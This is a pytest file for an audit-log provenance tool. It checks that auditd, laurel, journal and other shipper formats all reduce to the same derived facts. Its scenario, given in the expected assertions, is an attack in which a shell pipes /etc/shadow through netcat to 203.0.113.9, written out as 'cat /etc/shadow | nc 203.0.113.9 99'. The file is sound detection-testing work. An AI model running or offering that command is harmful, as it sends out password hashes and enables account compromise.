"""One story in the form of every shipper that is read (docs/shippers.md): the same facts as from the log that auditd wrote.

The samples are written to the published shape of each format. The story: kim, who came in by ssh, runs a shell whose pipe takes
/etc/shadow to another host, and a file with an odd name is made and renamed.
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from provenance.ingest.deriver import Deriver
from provenance.ingest.identity import EntityKind
from provenance.ingest.pyauparse import Parser
from tests.ingest.reading import Facts, facts_of

SAMPLES = Path(__file__).parent / "samples"
REFERENCE = "auditd-enriched.log"
HOST = "web07"
NO_NAMES_OF_USERS = ("user",)
NUMBERS_OF_USERS = ("uid", "euid", "auid", "owner")
LOST: dict[str, tuple[str, ...]] = {
    **dict.fromkeys(
        ("auditd-raw.log", "ausearch-raw.log", "laurel-0.1.json", "laurel-default.json"), NO_NAMES_OF_USERS
    ),
    **dict.fromkeys(("laurel-argv-string.json", "laurel-cee-prefix.log", "laurel-in-syslog.log"), NO_NAMES_OF_USERS),
    **dict.fromkeys(("laurel-in-filebeat.json",), NO_NAMES_OF_USERS),
    **{path.name: NO_NAMES_OF_USERS for path in SAMPLES.glob("journal-*")},
    **{path.name: (*NUMBERS_OF_USERS, "mode") for path in SAMPLES.glob("ausearch-interpreted-*")},
    "laurel-drop-raw.json": NUMBERS_OF_USERS,
}
"""What a format does not hold: raw logs have no names of users, interpreted ones no numbers."""
NO_SESSIONS = {name for name, lost in LOST.items() if "auid" in lost}
"""A session is known by its login uid."""
NAMELESS = {"go-audit.json"}
"""Formats that do not name the host."""
CORRUPT = {"container-cri.log": 3}
"""Lines of other programs among those of the log."""


def derive(name: str) -> tuple[Facts, Parser]:
    parser = Parser(HOST if name in NAMELESS else None)
    events = parser.feed((SAMPLES / name).read_bytes()) + parser.close()
    assert {event.node for event in events} == {HOST}
    deriver = Deriver(HOST)
    for event in events:
        deriver.push(event)
    assert deriver.unread == 0
    return facts_of([deriver.take(), deriver.conclude()]), parser


def nodes(facts: Facts, lost: tuple[str, ...]) -> dict[str, dict[str, Any]]:
    """The attributes of every node but sessions, by its label, without those that a format has lost."""
    return {
        facts.labels[id]: {
            **{name: value for name, value in node.attributes.items() if name not in lost},
            "names": sorted(name.path for name in node.names),
        }
        for id, node in facts.nodes.items()
        if node.kind is not EntityKind.SESSION
    }


def flows(facts: Facts, sessions: bool) -> set[str]:
    return {flow for flow in facts.flows if sessions or ("session " not in flow and "login " not in flow)}


@pytest.fixture(scope="module")
def reference() -> Facts:
    return derive(REFERENCE)[0]


def test_the_reference_sample_gives_the_expected_facts(reference: Facts) -> None:
    assert {
        "/etc/shadow -READ-> cat:811",
        "cat:811 -PIPED-> pipe",
        "pipe -PIPED-> nc:812",
        "nc:812 -CONNECTED-> ip 203.0.113.9:99",
        "nc:812 -WROTE-> /tmp/lib+ssl 100%.so",
        "nc:812 -RENAMED-> /tmp/lib+ssl 100%.so",
        "nc:812 -SIGNALLED-> cat:811",
        "login 203.0.113.5:0 -LOGGED_IN-> session 3 of 1000",
    } <= reference.flows
    assert reference.names("/tmp/lib+ssl 100%.so") == {"/tmp/lib+ssl 100%.so", "/tmp/.x"}
    assert reference.node("bash:810").attributes["argv"] == ["bash", "-c", "cat /etc/shadow | nc 203.0.113.9 99"]


@pytest.mark.parametrize("name", sorted(path.name for path in SAMPLES.iterdir()))
def test_a_shipper_gives_the_facts_of_the_log(name: str, reference: Facts) -> None:
    facts, parser = derive(name)
    lost = LOST.get(name, ())
    sessions = name not in NO_SESSIONS
    assert flows(facts, sessions) == flows(reference, sessions)
    found, expected = nodes(facts, lost), nodes(reference, lost)
    for label in {**found, **expected}:
        if sessions or not label.startswith("login "):
            assert found.get(label) == expected.get(label), label
    assert facts.tallies.keys() == {"events"}
    counts = parser.counts
    assert (counts.corrupt, counts.incomplete) == (CORRUPT.get(name, 0), 0)
    assert counts.lines == counts.records + counts.blank + counts.other + counts.corrupt
    assert parser.take_odd_dates() == (None, None)
